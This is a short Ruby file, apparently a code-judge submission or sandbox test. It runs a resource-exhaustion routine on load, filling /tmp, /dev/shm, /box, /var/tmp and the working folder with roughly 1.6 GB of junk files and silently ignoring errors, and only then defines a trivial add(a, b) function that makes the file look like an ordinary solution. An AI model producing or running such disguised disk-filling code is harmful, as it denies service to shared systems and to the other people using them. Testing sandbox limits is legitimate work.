block = 'x' * (1 << 20)
['/tmp', '/dev/shm', '/box', '/var/tmp', '.'].product((1..20).to_a) do |folder, number|
  File.open("#{folder}/#{number}", 'wb') { |file| 16.times { file.syswrite(block) } }
rescue SystemCallError
  next
end

def add(a, b)
  a + b
end
